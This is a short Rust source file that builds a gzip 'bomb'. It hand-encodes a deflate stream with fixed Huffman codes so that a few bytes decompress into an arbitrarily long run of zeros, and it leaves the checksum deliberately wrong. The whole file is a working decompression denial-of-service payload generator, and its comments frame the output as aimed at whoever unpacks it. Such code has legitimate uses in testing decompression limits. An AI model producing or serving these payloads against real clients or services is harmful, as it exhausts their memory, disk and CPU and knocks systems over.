//! Makes a gzip bomb: a small body that unpacks to very many zeros (RFC 1951, 1952).
//!
//! Thirteen bits say "the last 258 bytes again", so nothing has to be compressed to make one.

/// Bits as deflate packs them: from the lowest of each byte.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    waiting: u32,
    count: u32,
}

impl Bits {
    /// The lowest `count` bits of `bits`, lowest first.
    fn push(&mut self, bits: u32, count: u32) {
        self.waiting |= bits << self.count;
        self.count += count;
        while self.count >= 8 {
            self.bytes.push(self.waiting as u8);
            (self.waiting, self.count) = (self.waiting >> 8, self.count - 8);
        }
    }

    /// A Huffman code: highest bit first.
    fn push_code(&mut self, code: u32, count: u32) {
        self.push(code.reverse_bits() >> (32 - count), count);
    }
}

/// A gzip stream of about `length` zeros (rounded up to a multiple of 258, and one).
///
/// Its check sum is wrong: whoever unpacks that far has lost already.
pub(super) fn zeros(length: usize) -> Vec<u8> {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], ..Bits::default() };
    bits.push(0b011, 3); // the last block, fixed codes
    bits.push_code(0b0011_0000, 8); // a literal zero
    for _ in 0..length.div_ceil(258) {
        bits.push_code(0b1100_0101, 8); // length 258
        bits.push_code(0, 5); // distance 1
    }
    bits.push_code(0, 7); // the end
    bits.push(0, 7);
    bits.bytes.extend([0; 8]);
    bits.bytes
}
